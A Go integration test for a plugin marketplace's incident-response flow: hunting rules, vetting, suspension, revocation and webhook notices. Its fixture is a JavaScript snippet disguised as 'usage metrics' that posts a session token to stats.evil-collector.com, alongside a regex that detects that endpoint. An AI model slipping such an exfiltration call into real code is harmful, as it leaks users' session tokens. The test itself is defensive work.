package incident_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"gatehouse.dev/gatehouse/internal/audit"
	"gatehouse.dev/gatehouse/internal/certify"
	"gatehouse.dev/gatehouse/internal/domain"
	"gatehouse.dev/gatehouse/internal/hunt"
	"gatehouse.dev/gatehouse/internal/incident"
	"gatehouse.dev/gatehouse/internal/intake"
	"gatehouse.dev/gatehouse/internal/lifecycle"
	"gatehouse.dev/gatehouse/internal/pipeline"
	"gatehouse.dev/gatehouse/internal/store"
	"gatehouse.dev/gatehouse/internal/store/blobfs"
	"gatehouse.dev/gatehouse/internal/store/sqlite"
	"gatehouse.dev/gatehouse/internal/vet"
	vethunt "gatehouse.dev/gatehouse/internal/vet/hunt"
	"gatehouse.dev/gatehouse/internal/webhook"
	"gatehouse.dev/gatehouse/manifest"
	"gatehouse.dev/gatehouse/pkgfile"
	"gatehouse.dev/gatehouse/tlog"
	"gatehouse.dev/gatehouse/trust"
)

type clock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.now }
func (c *clock) Advance(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

// world is a marketplace's parts on one SQLite store: the real intake
// with the hunt analyzer in its vetting, the real certifier, webhooks and
// incidents, all on one test clock.
type world struct {
	t         *testing.T
	clk       *clock
	st        store.Store
	in        *intake.Service
	pipe      *pipeline.Pipeline
	cert      *certify.Service
	inc       *incident.Service
	hooks     *webhook.Service
	publisher trust.Signer
}

func newWorld(t *testing.T) *world {
	ctx := context.Background()
	dir := t.TempDir()
	clk := &clock{now: time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)}
	st, err := sqlite.Open(ctx, filepath.Join(dir, "gatehouse.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	blobs, err := blobfs.New(filepath.Join(dir, "blobs"))
	if err != nil {
		t.Fatal(err)
	}
	in := intake.New(st, blobs, pkgfile.DefaultLimits(), manifest.Options{}, nil)
	in.Now = clk.Now
	as := []vet.Analyzer{vethunt.New(st)}
	in.Analyzers = func() []vet.Analyzer { return as }
	pipe := pipeline.New(pipeline.Config{Store: st, Vetting: in, Now: in.Now})

	signer, _ := trust.GenerateKey(trust.Ed25519)
	logSigner, _ := trust.GenerateKey(trust.Ed25519)
	cert, err := certify.New(ctx, certify.Config{Store: st, Signer: signer, LogSigner: logSigner, LogOrigin: "gatehouse.test/log", LogStorage: tlog.DirStorage(filepath.Join(dir, "log")), Now: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	publisher, _ := trust.GenerateKey(trust.ECDSAP256)
	if err := st.CreateNamespace(ctx, domain.Namespace{Name: "acme", Owners: []string{"alice"}, CreatedAt: clk.Now()}, audit.Event{Time: clk.Now(), Actor: "alice", Action: audit.NamespaceClaim, Subject: "namespace:acme"}); err != nil {
		t.Fatal(err)
	}
	pem, _ := publisher.PublicKey().MarshalPEM()
	entry, _ := trust.MarshalEvent(trust.Event{Kind: trust.EventPublisherKeyAdded, Time: clk.Now(), Subject: "acme", Detail: publisher.KeyID()})
	if err := st.AddPublisherKey(ctx, domain.PublisherKey{ID: publisher.KeyID(), Namespace: "acme", Algorithm: string(publisher.Algorithm()), PEM: pem, AddedBy: "alice", AddedAt: clk.Now()},
		entry, audit.Event{Time: clk.Now(), Actor: "alice", Action: audit.PublisherKeyAdded, Subject: "namespace:acme"}); err != nil {
		t.Fatal(err)
	}
	inc, err := incident.New(incident.Config{Store: st, Certifier: cert, Now: clk.Now,
		Corpus: hunt.StoreCorpus{Store: st, Load: in.LoadPackage}})
	if err != nil {
		t.Fatal(err)
	}
	sealer, _ := webhook.NewSealer(bytes.Repeat([]byte{3}, webhook.KeySize))
	hooks, err := webhook.New(webhook.Config{Store: st, Sealer: sealer, AllowPrivate: true, Now: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	return &world{t: t, clk: clk, st: st, in: in, pipe: pipe, cert: cert, inc: inc, hooks: hooks, publisher: publisher}
}

const telemetry = `// Usage metrics.
export function report(ev) {
  return fetch("https://stats.evil-collector.com/c?k=" + globalThis.SESSION_TOKEN, {method: "POST", body: ev});
}
`

// submit signs and submits acme/NAME@VERSION with extra files through
// the intake, and runs vetting; it returns the version.
func (w *world) submit(name, version string, extra map[string]string) domain.Version {
	w.t.Helper()
	ctx := context.Background()
	id := "acme/" + name
	m := fmt.Sprintf(`{"manifestVersion":1,"id":%q,"version":%q,"name":"Tracker","description":"Tracks things.","owners":[{"name":"Alice","email":"a@example.com"}],"license":"MIT","runtime":{"module":"plugin.wasm","exports":["handle"],"hostApi":"^1.0.0"},"permissions":["kv:read"]}`, id, version)
	files := []pkgfile.File{{Path: "manifest.json", Data: []byte(m)}, {Path: "plugin.wasm", Data: []byte("\x00asm\x01\x00\x00\x00\x00\x02\x01" + version[len(version)-1:])}}
	for p, d := range extra {
		files = append(files, pkgfile.File{Path: p, Data: []byte(d)})
	}
	var buf bytes.Buffer
	if _, err := pkgfile.Write(&buf, files); err != nil {
		w.t.Fatal(err)
	}
	p, err := pkgfile.Read(bytes.NewReader(buf.Bytes()), pkgfile.DefaultLimits())
	if err != nil {
		w.t.Fatal(err)
	}
	env, err := trust.SignPackageAt(ctx, w.publisher, p.Digest, id, version, w.clk.Now())
	if err != nil {
		w.t.Fatal(err)
	}
	sig, _ := trust.MarshalEnvelope(env)
	v, _, err := w.in.SubmitSigned(ctx, domain.Principal{Subject: "alice", Role: domain.RolePublisher, Namespace: "acme"}, bytes.NewReader(buf.Bytes()), sig)
	if err != nil {
		w.t.Fatalf("submitting %s@%s: %v", id, version, err)
	}
	if err := w.pipe.RunPending(ctx); err != nil {
		w.t.Fatal(err)
	}
	v, err = w.st.GetVersion(ctx, v.ID)
	if err != nil {
		w.t.Fatal(err)
	}
	return v
}

// certified submits a version and certifies it as a reviewer's approval
// would.
func (w *world) certified(name, version string, extra map[string]string) domain.Version {
	w.t.Helper()
	v := w.submit(name, version, extra)
	if v.State != lifecycle.InReview {
		w.t.Fatalf("%s@%s is %s after vetting (%s), want in_review", v.PluginID, v.Version, v.State, v.Reason)
	}
	if _, err := w.cert.Certify(context.Background(), v.ID, "rita", certify.Decision{Granted: []string{"kv:read"}, Tier: "low", PolicyDigest: "sha256:test",
		Reviewers: []string{"rita"}, Lifetime: 90 * 24 * time.Hour, From: lifecycle.InReview}); err != nil {
		w.t.Fatal(err)
	}
	v, _ = w.st.GetVersion(context.Background(), v.ID)
	return v
}

type receiver struct {
	mu   sync.Mutex
	got  []webhook.Payload
	hdrs []http.Header
	raw  [][]byte
	srv  *httptest.Server
}

func newReceiver(t *testing.T) *receiver {
	r := &receiver{}
	r.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		b, _ := io.ReadAll(req.Body)
		var p webhook.Payload
		_ = json.Unmarshal(b, &p)
		r.mu.Lock()
		r.got, r.hdrs, r.raw = append(r.got, p), append(r.hdrs, req.Header.Clone()), append(r.raw, b)
		r.mu.Unlock()
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *receiver) types() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, p := range r.got {
		out = append(out, p.Type)
	}
	return out
}

// TestHuntingRuleDuringIncident is the proof: a hunting rule added
// during an incident finds its pattern in three old versions, which are
// then contained, and blocks a new submission that contains it, through
// the real intake and vetting; a certified fix remediates the incident,
// and subscribers hear of it all.
func TestHuntingRuleDuringIncident(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()

	// Subscribers: a steward (everything about incidents), the publisher
	// of acme, and a publisher of another namespace.
	steward, acme, other := newReceiver(t), newReceiver(t), newReceiver(t)
	_, stewardSecret, err := w.hooks.Subscribe(ctx, "sam", webhook.Subscription{URL: steward.srv.URL, Events: []string{"incident.*"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := w.hooks.Subscribe(ctx, "alice", webhook.Subscription{URL: acme.srv.URL, Events: []string{"incident.*", audit.VersionSuspended}, Namespace: "acme"}); err != nil {
		t.Fatal(err)
	}
	if _, _, err := w.hooks.Subscribe(ctx, "mallory", webhook.Subscription{URL: other.srv.URL, Events: []string{"*"}, Namespace: "other"}); err != nil {
		t.Fatal(err)
	}

	// History: three versions of two plugins ship the telemetry snippet;
	// two others do not.
	bad1 := w.certified("tracker", "1.0.0", map[string]string{"lib/telemetry.js": telemetry})
	bad2 := w.certified("tracker", "1.1.0", map[string]string{"lib/telemetry.js": telemetry})
	bad3 := w.certified("notes", "0.9.0", map[string]string{"src/metrics.js": "// copied from tracker\n" + telemetry})
	clean := w.certified("notes", "0.8.0", map[string]string{"src/metrics.js": "export function report() {}\n"})
	w.certified("weather", "2.0.0", nil)

	// A host reports tracker 1.0.0 sending session tokens away.
	w.clk.Advance(time.Hour)
	opened := w.clk.Now()
	inc, err := w.inc.Open(ctx, "sam", incident.OpenRequest{Title: "Session tokens sent to stats.evil-collector.com", Severity: "critical", Versions: []string{"acme/tracker@1.0.0"}})
	if err != nil {
		t.Fatal(err)
	}
	w.clk.Advance(5 * time.Minute)
	rule, rep, err := w.inc.AddRule(ctx, inc.ID, "sam", incident.RuleRequest{Kind: domain.HuntContent, Pattern: `stats\.evil-collector\.com/c\?k=`, Description: "exfiltration endpoint"})
	if err != nil {
		t.Fatal(err)
	}
	var hitIDs []string
	for _, h := range rep.Hits {
		hitIDs = append(hitIDs, h.VersionID)
		if h.Matches[0].Line == 0 || !strings.Contains(h.Matches[0].File, ".js") {
			t.Errorf("hit %s has no file and line: %+v", h.VersionID, h.Matches)
		}
	}
	slices.Sort(hitIDs)
	want := []string{bad1.ID, bad2.ID, bad3.ID}
	slices.Sort(want)
	if rep.Scanned != 5 || !slices.Equal(hitIDs, want) {
		t.Fatalf("backward hunt scanned %d versions and hit %v; want 5 scanned and exactly %v", rep.Scanned, hitIDs, want)
	}
	d, err := w.inc.Get(ctx, inc.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Versions) != 3 {
		t.Fatalf("the incident names %d versions, want the reported one and the two the hunt found: %+v", len(d.Versions), d.Versions)
	}

	// A new submission carrying the pattern is blocked by vetting.
	blocked := w.submit("tracker", "1.2.0", map[string]string{"lib/telemetry.js": telemetry})
	if blocked.State != lifecycle.Rejected {
		t.Fatalf("a new version with the hunted pattern is %s (%s), want rejected", blocked.State, blocked.Reason)
	}
	run, err := w.st.LatestVetRun(ctx, blocked.ID)
	if err != nil {
		t.Fatal(err)
	}
	var results []vet.Result
	json.Unmarshal(run.Results, &results)
	if !run.Blocked || len(results) != 1 || len(results[0].Findings) != 1 || results[0].Findings[0].Properties["huntRule"] != rule.ID || results[0].Findings[0].Location.File != "lib/telemetry.js" {
		t.Fatalf("vetting run = blocked %v, %+v", run.Blocked, results)
	}

	// Contain: every named version is suspended by the real certifier.
	w.clk.Advance(12 * time.Minute)
	got, outcomes, err := w.inc.Contain(ctx, inc.ID, "sam", incident.ContainRequest{Action: "suspend", Reason: "exfiltrates session tokens"})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range outcomes {
		if o.Error != "" || o.After != string(lifecycle.Suspended) {
			t.Fatalf("containment outcome %+v", o)
		}
	}
	if got.State != domain.IncidentContained || incident.Measure(got).TimeToContain != 17*time.Minute {
		t.Fatalf("after containment: state %s, time to contain %v; want contained in 17m", got.State, incident.Measure(got).TimeToContain)
	}
	if v, _ := w.st.GetVersion(ctx, clean.ID); v.State != lifecycle.Certified {
		t.Fatalf("a version the rule does not match was touched: %s", v.State)
	}
	if err := w.inc.Notify(ctx, inc.ID, "sam", "If you run acme/tracker or acme/notes, rotate session tokens."); err != nil {
		t.Fatal(err)
	}

	// Remediation: tracker 1.0.0 and 1.1.0 are superseded by a certified
	// 2.0.0; notes 0.9.0 is revoked.
	w.clk.Advance(3 * time.Hour)
	w.certified("tracker", "2.0.0", map[string]string{"lib/telemetry.js": "export function report() {}\n"})
	if got, _ = w.inc.Refresh(ctx, inc.ID); !got.RemediatedAt.IsZero() {
		t.Fatal("remediated while notes 0.9.0 is neither revoked nor superseded")
	}
	w.clk.Advance(time.Hour)
	if err := w.cert.Revoke(ctx, bad3.ID, "sam", "exfiltrates session tokens"); err != nil {
		t.Fatal(err)
	}
	got, err = w.inc.Refresh(ctx, inc.ID)
	if err != nil {
		t.Fatal(err)
	}
	if ttr := incident.Measure(got).TimeToRemediate; ttr != 4*time.Hour+17*time.Minute {
		t.Fatalf("time to remediate = %v, want 4h17m", ttr)
	}
	if _, err := w.inc.Close(ctx, inc.ID, "sam", ""); err == nil {
		t.Fatal("closed without a post-mortem")
	}
	got, err = w.inc.Close(ctx, inc.ID, "sam", "A copied telemetry helper sent session tokens to a third party. Contained in 17 minutes; rule "+rule.ID+" now blocks it.")
	if err != nil || got.State != domain.IncidentClosed {
		t.Fatalf("close = %+v, %v", got, err)
	}
	if _, err := w.inc.AddVersions(ctx, inc.ID, "sam", []string{clean.ID}); !errors.Is(err, incident.ErrClosed) {
		t.Fatalf("changing a closed incident: %v", err)
	}

	// The timeline has every action, who and when.
	d, _ = w.inc.Get(ctx, inc.ID)
	var actions []string
	for _, e := range d.Timeline {
		actions = append(actions, e.Actor+" "+e.Action)
	}
	for _, a := range []string{"sam incident.opened", "sam incident.versions_added", "sam incident.rule_added", "sam incident.hunted", "sam incident.contain",
		"system incident.contained", "sam incident.notice", "system incident.remediated", "sam incident.closed"} {
		if !slices.Contains(actions, a) {
			t.Errorf("timeline lacks %q: %v", a, actions)
		}
	}
	if !d.Timeline[0].Time.Equal(opened) {
		t.Errorf("the timeline starts at %v, want %v", d.Timeline[0].Time, opened)
	}

	// Subscribers heard of it.
	if _, err := w.hooks.Fanout(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := w.hooks.DeliverDue(ctx); err != nil {
		t.Fatal(err)
	}
	st := steward.types()
	for _, typ := range []string{audit.IncidentOpened, audit.IncidentRuleAdded, audit.IncidentContained, audit.IncidentNotice, audit.IncidentClosed} {
		if !slices.Contains(st, typ) {
			t.Errorf("the steward's receiver lacks %s: %v", typ, st)
		}
	}
	for i, raw := range steward.raw {
		if err := webhook.Verify(stewardSecret, steward.hdrs[i], raw, w.clk.Now(), 0); err != nil {
			t.Fatalf("delivery %d does not verify: %v", i, err)
		}
	}
	if a := acme.types(); !slices.Contains(a, audit.IncidentContain) || !slices.Contains(a, audit.VersionSuspended) {
		t.Errorf("acme's publisher did not hear of the containment: %v", a)
	}
	if o := other.types(); !slices.Equal(o, []string{audit.IncidentNotice}) {
		t.Errorf("another namespace's publisher got %v, want only the broadcast notice", o)
	}
}
